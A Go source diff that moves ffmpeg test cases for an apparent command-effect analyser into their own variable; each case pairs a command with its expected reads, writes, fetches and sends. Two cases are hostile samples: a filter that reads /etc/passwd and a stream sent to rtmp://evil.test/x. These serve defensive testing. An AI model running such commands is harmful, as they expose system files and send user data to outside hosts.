@@ -22,16 +22,17 @@ var ffmpeg = Program{
 		},
 		Refine: ffmpegFiles,
 	},
-	Cases: []Case{
-		{`ffmpeg -y -i a.mov -c:v libx264 -crf 23 b.mp4`, `Read a.mov; Write b.mp4`},
-		{`ffmpeg -i a.mov -vf scale=640:-1 out/f%03d.png`, `Read a.mov; Write out/**`},
-		{`ffmpeg -i a.mov -vf "movie=/etc/passwd" b.mp4`, `Read a.mov; Write b.mp4; Unknown a filter may read or write files`},
-		{`ffmpeg -i https://a/b.m3u8 b.mp4`, `Fetch https://a/b.m3u8; Write b.mp4`},
-		{`ffmpeg -i a.mov -f flv rtmp://evil.test/x`, `Read a.mov; Send rtmp://evil.test/x`},
-		{`ffmpeg -attach f -i a b.mkv`, `Read f; Read a; Write b.mkv`},
-		{`ffmpeg -i a -passlogfile p b.mp4`, `Write p; Read a; Write b.mp4`},
-		{`ffmpeg -i a -progress url b.mp4`, `Unknown nobody read what the value of -progress means; Read a; Write b.mp4`},
-	},
+}
+
+var ffmpegCases = []Case{
+	{`ffmpeg -y -i a.mov -c:v libx264 -crf 23 b.mp4`, `Read a.mov; Write b.mp4`},
+	{`ffmpeg -i a.mov -vf scale=640:-1 out/f%03d.png`, `Read a.mov; Write out/**`},
+	{`ffmpeg -i a.mov -vf "movie=/etc/passwd" b.mp4`, `Read a.mov; Write b.mp4; Unknown a filter may read or write files`},
+	{`ffmpeg -i https://a/b.m3u8 b.mp4`, `Fetch https://a/b.m3u8; Write b.mp4`},
+	{`ffmpeg -i a.mov -f flv rtmp://evil.test/x`, `Read a.mov; Send rtmp://evil.test/x`},
+	{`ffmpeg -attach f -i a b.mkv`, `Read f; Read a; Write b.mkv`},
+	{`ffmpeg -i a -passlogfile p b.mp4`, `Write p; Read a; Write b.mp4`},
+	{`ffmpeg -i a -progress url b.mp4`, `Unknown nobody read what the value of -progress means; Read a; Write b.mp4`},
 }
 
 // ffmpegFiles: inputs follow -i, and every positional is an output.
